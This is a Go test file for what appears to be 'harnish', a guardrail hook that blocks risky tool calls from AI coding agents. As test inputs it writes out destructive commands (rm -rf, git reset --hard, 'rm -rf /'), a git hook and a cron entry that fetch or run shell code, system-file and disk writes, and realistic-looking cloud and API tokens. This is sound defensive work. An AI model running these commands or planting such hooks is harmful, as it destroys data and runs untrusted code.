package hook_test

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/harnish/harnish/guardrail"
	"github.com/harnish/harnish/hook"
	"github.com/harnish/harnish/internal/testkit"
)

func TestHookPreToolUse(t *testing.T) {
	tree := t.TempDir()
	planned := t.TempDir()
	testkit.WriteGuardPlan(t, planned, "harnish.yaml", "  packages: {pypi: [requests]}\n  protected: [secrets/]\n")
	explicit := testkit.WriteGuardPlan(t, t.TempDir(), "other.yaml", "  packages: {npm: [left-pad]}\n")
	// A file that already holds a secret the agent does not touch.
	if err := os.WriteFile(filepath.Join(tree, "keys.env"), []byte("a\nGH=ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d\nb\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// A value on the line after its key, which an edit replaces alone.
	if err := os.WriteFile(filepath.Join(tree, "db.yaml"), []byte("db:\n  password:\n    changeme\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	broken := t.TempDir()
	if err := os.WriteFile(filepath.Join(broken, "plan.yaml"), []byte("version: 1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name       string
		args       []string
		stdin      string
		wantErr    string // a prefix of stderr; "" means nothing
		wantStatus int
	}{
		{name: "allowed bash", args: []string{"--agent", "claude"},
			stdin: hookCall(t, "Bash", map[string]any{"command": "go test ./..."}, tree)},
		{name: "blocked bash", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{"command": "rm -rf build"}, tree),
			wantErr: "harnish guardrail fs.recursive-delete blocked this: recursive deletion (rm -rf) can destroy the working tree\n"},
		{name: "codex bash", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{"command": "git push --force"}, tree),
			wantErr: "harnish guardrail git.force-push blocked this"},
		{name: "payload names the inner command", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{"command": `bash -c "git reset --hard"`}, tree),
			wantErr: "harnish guardrail git.discard blocked this: git reset --hard discards uncommitted work (in \"git reset --hard\")\n"},
		{name: "write to the state is blocked", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Write", map[string]any{"file_path": filepath.Join(tree, ".harnish", "state.json"), "content": "{}"}, tree),
			wantErr: "harnish guardrail edit.protected blocked this"},
		{name: "a secret written is blocked", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Write", map[string]any{"file_path": filepath.Join(tree, "cfg.env"), "content": "a\nGH=ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d\n"}, tree),
			wantErr: "harnish guardrail edit.secret.github blocked this: cfg.env:2: GitHub token added"},
		{name: "edits around a secret already there are not charged with it", args: []string{"--agent", "claude"},
			stdin: hookCall(t, "MultiEdit", map[string]any{"file_path": filepath.Join(tree, "keys.env"), "edits": []map[string]any{
				{"old_string": "a\n", "new_string": "A\n"}, {"old_string": "\nb", "new_string": "\nB"}}}, tree)},
		{name: "a value replaced alone is judged under its key on the line before", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Edit", map[string]any{"file_path": filepath.Join(tree, "db.yaml"), "old_string": "changeme", "new_string": "Q7v!mR2zK9wPx4"}, tree),
			wantErr: "harnish guardrail edit.secret.assignment blocked this: db.yaml:3: literal credential, on the line after its name added"},
		{name: "a secret written outside the tree is blocked as the shell's write is", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Write", map[string]any{"file_path": "/tmp/harnish-hook-test/credentials", "content": "[default]\naws_access_key_id = AKIA2F6KJAO4Y56O4ZAQ\naws_secret_access_key = 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\n"}, tree),
			wantErr: "harnish guardrail edit.secret.aws blocked this: the command writes a credential into /tmp/harnish-hook-test/credentials"},
		{name: "a value patched alone is judged under its key in the file", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "apply_patch", map[string]any{"command": "*** Begin Patch\n*** Update File: db.yaml\n@@ db:\n-    changeme\n+    Q7v!mR2zK9wPx4\n*** End Patch\n"}, tree),
			wantErr: "harnish guardrail edit.secret.assignment blocked this: db.yaml:3: literal credential, on the line after its name added"},
		{name: "a secret patched in is blocked", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "apply_patch", map[string]any{"command": "*** Begin Patch\n*** Add File: a.txt\n+a\n*** Add File: b.txt\n+see glpat-Ab3dE5fG7hI9jK1lM3nO\n*** End Patch\n"}, tree),
			wantErr: "harnish guardrail edit.secret.gitlab blocked this: b.txt:1: "},
		{name: "a provider token in an unquoted line of any file is blocked", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Write", map[string]any{"file_path": filepath.Join(tree, ".npmrc"), "content": "//registry.npmjs.org/:_authToken=npm_q8ztk3v0rmd5bq7w1lyx2c4nh6sj9fga0e3u\n"}, tree),
			wantErr: "harnish guardrail edit.secret.npm-access-token blocked this: .npmrc:1: Npm access token added (npm_***)"},
		{name: "a token edited into a URL is blocked", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin: hookCall(t, "Edit", map[string]any{"file_path": filepath.Join(tree, "keys.env"), "old_string": "b",
				"new_string": "MAPS=https://maps.acme.io/api?key=AIzaSyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q&x=1"}, tree),
			wantErr: "harnish guardrail edit.secret.gcp blocked this: keys.env:3: GCP key added (AIza***)"},
		{name: "a secret in a notebook cell is blocked", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin: hookCall(t, "NotebookEdit", map[string]any{"notebook_path": filepath.Join(tree, "a.ipynb"), "cell_id": "c1",
				"new_source": "import stripe\nstripe.api_key = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc9aXbQ2Lm'\n"}, tree),
			wantErr: "harnish guardrail edit.secret.stripe-access-token blocked this: a.ipynb:2: Stripe access token added"},
		{name: "a notebook cell without secrets is allowed", args: []string{"--agent", "claude"},
			stdin: hookCall(t, "NotebookEdit", map[string]any{"notebook_path": filepath.Join(tree, "a.ipynb"), "cell_id": "c1",
				"new_source": "import os\nkey = os.environ['STRIPE_KEY']\n"}, tree)},
		{name: "a secret a shell command writes is blocked", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{"command": "cat > .env <<'EOF'\nSTRIPE_KEY=sk_live_4eC39HqLyjWDarjtT1zdp7dc9aXbQ2Lm\nEOF"}, tree),
			wantErr: "harnish guardrail edit.secret.stripe-access-token blocked this: the command writes a credential into .env: Stripe access token (sk_l***)"},
		{name: "a long write is not the size rule's", args: []string{"--agent", "claude"},
			stdin: hookCall(t, "Write", map[string]any{"file_path": filepath.Join(tree, "long.txt"), "content": strings.Repeat("line\n", 500)}, tree)},
		{name: "edit outside the tree is not judged", args: []string{"--agent", "claude"},
			stdin: hookCall(t, "Edit", map[string]any{"file_path": "/elsewhere/.harnish/x", "old_string": "a", "new_string": "b"}, tree)},
		{name: "apply_patch to the state is blocked", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{"command": "apply_patch <<'PATCH'\n*** Begin Patch\n*** Update File: .harnish/state.json\n@@\n-a\n+b\n*** End Patch\nPATCH"}, tree),
			wantErr: "harnish guardrail edit.protected blocked this"},
		{name: "apply_patch tool to the state is blocked", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "apply_patch", map[string]any{"command": "*** Begin Patch\n*** Add File: a.txt\n+a\n*** Update File: .harnish/state.json\n@@\n-a\n+b\n*** End Patch\n"}, tree),
			wantErr: "harnish guardrail edit.protected blocked this"},
		{name: "a write of a system file outside the tree is blocked", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Write", map[string]any{"file_path": "/etc/hosts", "content": "127.0.0.1 x\n"}, tree),
			wantErr: "harnish guardrail sys.files blocked this"},
		{name: "apply_patch adding a system file is blocked", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "apply_patch", map[string]any{"command": "*** Begin Patch\n*** Add File: /etc/cron.d/x\n+* * * * * root sh /tmp/x\n*** End Patch\n"}, tree),
			wantErr: "harnish guardrail sys.files blocked this"},
		{name: "apply_patch outside the tree elsewhere is allowed", args: []string{"--agent", "codex"},
			stdin: hookCall(t, "apply_patch", map[string]any{"command": "*** Begin Patch\n*** Add File: /tmp/harnish-hook-test/notes.txt\n+a\n*** End Patch\n"}, tree)},
		{name: "an edit of a disk is blocked", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Edit", map[string]any{"file_path": "/dev/sda", "old_string": "a", "new_string": "b"}, tree),
			wantErr: "harnish guardrail sys.disk blocked this"},
		{name: "a hook written into .git is blocked", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Write", map[string]any{"file_path": filepath.Join(tree, ".git", "hooks", "pre-commit"), "content": "#!/bin/sh\ncurl -s x | sh\n"}, tree),
			wantErr: "harnish guardrail edit.protected blocked this"},
		{name: "apply_patch tool edit is allowed", args: []string{"--agent", "codex"},
			stdin: hookCall(t, "apply_patch", map[string]any{"command": "*** Begin Patch\n*** Add File: a.txt\n+a\n*** End Patch\n"}, tree)},
		{name: "apply_patch tool naming no file blocks", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "apply_patch", map[string]any{"command": "*** Begin Patch\n*** End Patch\n"}, tree),
			wantErr: "harnish: cannot judge the tool call: apply_patch call names no file"},
		{name: "codex bare shell is blocked", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{"command": "bash"}, tree),
			wantErr: "harnish guardrail shell.interactive blocked this: bash started without a script"},
		{name: "codex REPL with options is blocked", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{"command": "/usr/bin/env python3 -i"}, tree),
			wantErr: "harnish guardrail shell.interactive blocked this: python3 started"},
		{name: "codex shell with a script is allowed", args: []string{"--agent", "codex"},
			stdin: hookCall(t, "Bash", map[string]any{"command": "bash build.sh"}, tree)},
		{name: "codex version checks are allowed", args: []string{"--agent", "codex"},
			stdin: hookCall(t, "Bash", map[string]any{"command": "python3 -V"}, tree)},
		{name: "codex lone version check is allowed", args: []string{"--agent", "codex"},
			stdin: hookCall(t, "Bash", map[string]any{"command": "node -v"}, tree)},
		{name: "codex bash -v is a verbose shell, blocked", args: []string{"--agent", "codex"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{"command": "bash -v"}, tree),
			wantErr: "harnish guardrail shell.interactive blocked this"},
		{name: "codex python -c is allowed", args: []string{"--agent", "codex"},
			stdin: hookCall(t, "Bash", map[string]any{"command": "python3 -c 'print(1)'"}, tree)},
		{name: "codex shell reading a file is allowed", args: []string{"--agent", "codex"},
			stdin: hookCall(t, "Bash", map[string]any{"command": "sh < steps.sh"}, tree)},
		{name: "claude bare shell is allowed", args: []string{"--agent", "claude"},
			stdin: hookCall(t, "Bash", map[string]any{"command": "bash"}, tree)},
		{name: "other tools are allowed", args: []string{"--agent", "claude"},
			stdin: hookCall(t, "Read", map[string]any{"file_path": "/etc/passwd"}, tree)},
		{name: "default plan in cwd allows", args: []string{"--agent", "claude"},
			stdin: hookCall(t, "Bash", map[string]any{"command": "pip install requests"}, planned)},
		{name: "default plan in cwd protects", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{"command": "rm secrets/k"}, planned),
			wantErr: "harnish guardrail fs.protected blocked this"},
		{name: "no plan blocks installs", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{"command": "pip install requests"}, tree),
			wantErr: "harnish guardrail pkg.install blocked this"},
		{name: "--plan overrides", args: []string{"--agent", "claude", "--plan", explicit},
			stdin: hookCall(t, "Bash", map[string]any{"command": "npm i left-pad"}, planned)},
		{name: "a plan that does not load blocks", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{"command": "ls"}, broken),
			wantErr: "harnish: cannot judge the tool call: the plan does not load: "},
		{name: "bad JSON blocks", args: []string{"--agent", "claude"}, wantStatus: 2, stdin: "{",
			wantErr: "harnish: cannot judge the tool call: decoding the hook input: unexpected end of JSON input\n"},
		{name: "bash without a command blocks", args: []string{"--agent", "claude"}, wantStatus: 2,
			stdin:   hookCall(t, "Bash", map[string]any{}, tree),
			wantErr: "harnish: cannot judge the tool call: Bash call without tool_input.command\n"},
		{name: "no tool name blocks", args: []string{"--agent", "claude"}, wantStatus: 2, stdin: `{"tool_input":{}}`,
			wantErr: "harnish: cannot judge the tool call: the hook input has no tool_name\n"},
		{name: "unknown agent blocks", args: []string{"--agent", "gemini"}, wantStatus: 2, stdin: "{}",
			wantErr: "harnish: hook pre-tool-use: --agent \"gemini\": want claude or codex\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			logPath := filepath.Join(t.TempDir(), "hooks.jsonl")
			t.Setenv(guardrail.EnvHookLog, logPath)
			t.Setenv("HARNISH_WORKDIR", "")
			var stderr bytes.Buffer
			status := preToolUse(tt.args, tt.stdin, &stderr)
			if status != tt.wantStatus {
				t.Errorf("status = %d, want %d (stderr %q)", status, tt.wantStatus, stderr.String())
			}
			// Every answer is logged, so the executor can tell the hook ran.
			recs, err := guardrail.ReadHookLog(logPath)
			if err != nil || len(recs) != 1 {
				t.Fatalf("hook log: %v, %d records", err, len(recs))
			}
			if r := recs[0]; r.Event != guardrail.HookPreToolUse || (r.Decision.Level == guardrail.Hard) != (status == 2) {
				t.Errorf("hook log record %+v for status %d", r, status)
			}
			got := stderr.String()
			if tt.wantErr == "" && got != "" || !strings.HasPrefix(got, tt.wantErr) {
				t.Errorf("stderr = %q, want it to start with %q", got, tt.wantErr)
			}
		})
	}
}

// TestHookWorkdir: a call that runs below the working tree (Codex passes a
// command's workdir as the hook's cwd) is judged against the tree that
// $HARNISH_WORKDIR names: its plan, its protected paths.
func TestHookWorkdir(t *testing.T) {
	tree, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	testkit.WriteGuardPlan(t, tree, "harnish.yaml", "  protected: [secrets/]\n")
	sub := filepath.Join(tree, "sub")
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name       string
		tool       string
		input      map[string]any
		cwd        string
		wantStatus int
		wantErr    string
	}{
		{"state from below", "Bash", map[string]any{"command": "rm -f ../.harnish/state.json"}, sub, 2, "harnish guardrail fs.protected blocked this"},
		{"plan's protected path from below", "Bash", map[string]any{"command": "rm ../secrets/k"}, sub, 2, "harnish guardrail fs.protected blocked this"},
		{"multi-line command from below", "Bash", map[string]any{"command": "ls\nrm -f ../.harnish/state.json"}, sub, 2, "harnish guardrail fs.protected blocked this"},
		{"harmless command from below", "Bash", map[string]any{"command": "rm -f x.txt"}, sub, 0, ""},
		{"relative edit from below", "Write", map[string]any{"file_path": "../.harnish/state.json", "content": "{}"}, sub, 2, "harnish guardrail edit.protected blocked this"},
		{"patch from below", "apply_patch", map[string]any{"command": "*** Begin Patch\n*** Add File: ../.harnish/x\n+a\n*** End Patch\n"}, sub, 2, "harnish guardrail edit.protected blocked this"},
		{"harmless patch from below", "apply_patch", map[string]any{"command": "*** Begin Patch\n*** Add File: a.txt\n+a\n*** End Patch\n"}, sub, 0, ""},
		{"at the root", "Bash", map[string]any{"command": "rm secrets/k"}, tree, 2, "harnish guardrail fs.protected blocked this"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Setenv(guardrail.EnvHookLog, filepath.Join(t.TempDir(), "hooks.jsonl"))
			t.Setenv("HARNISH_WORKDIR", tree)
			var stderr bytes.Buffer
			status := preToolUse([]string{"--agent", "codex"}, hookCall(t, tt.tool, tt.input, tt.cwd), &stderr)
			if status != tt.wantStatus || !strings.HasPrefix(stderr.String(), tt.wantErr) || (tt.wantErr == "" && stderr.Len() > 0) {
				t.Errorf("status %d, stderr %q; want %d, %q", status, stderr.String(), tt.wantStatus, tt.wantErr)
			}
			recs, err := guardrail.ReadHookLog(os.Getenv(guardrail.EnvHookLog))
			if err != nil || len(recs) != 1 || recs[0].Command != tt.input["command"] && tt.tool != "Write" {
				t.Errorf("hook log: %v, %+v: want the command as the agent gave it", err, recs)
			}
		})
	}
}

// FuzzParseToolCall checks that no input makes the hook decoder, or the
// actions of what it decodes, panic.
func FuzzParseToolCall(f *testing.F) {
	f.Add(hookCall(f, "Bash", map[string]any{"command": "rm -rf /"}, "/repo"))
	f.Add(hookCall(f, "Write", map[string]any{"file_path": "/repo/.harnish/x", "content": "a\nb"}, "/repo"))
	f.Add(hookCall(f, "MultiEdit", map[string]any{"file_path": "x", "edits": []map[string]any{{"old_string": "a", "new_string": "b"}}}, "sub"))
	f.Add(hookCall(f, "apply_patch", map[string]any{"command": "*** Begin Patch\n*** Update File: a\n*** Move to: b\n@@ f\n-x\n+y\n*** End of File\n*** End Patch\n"}, "/repo"))
	f.Add(`{"tool_name":"Bash","tool_input":null}`)
	f.Add(`{"tool_name":"MultiEdit","tool_input":{"file_path":1}}`)
	f.Add(`{"tool_name":"Edit","tool_input":{"file_path":"x","old_string":2}}`)
	f.Add(`[]`)
	f.Add(`{"tool_name":"shell","tool_input":{"command":["bash","-lc","rm -r x"]}}`)
	f.Add(`{"tool_name":"exec_command","tool_input":{"cmd":"ls","command":null}}`)
	f.Add(`{"tool_name":"apply_patch","tool_input":"*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n"}`)
	f.Add(`{"tool_name":"apply_patch","tool_input":{"input":"*** Begin Patch\n*** Delete File: a\n*** End Patch\n"}}`)
	f.Fuzz(func(t *testing.T, in string) {
		c, err := hook.ParseToolCall(strings.NewReader(in))
		if err != nil {
			if c != nil {
				t.Errorf("call %+v with error %v", c, err)
			}
			return
		}
		acts, err := c.Actions("/repo")
		if err != nil {
			t.Errorf("actions of a call that parsed: %v", err)
		}
		for _, a := range acts {
			if a.Diff != "" {
				if _, err := guardrail.ParseDiff(a.Diff); err != nil {
					t.Errorf("the diff of %s does not parse: %v\n%s", a.Path, err, a.Diff)
				}
			}
		}
	})
}
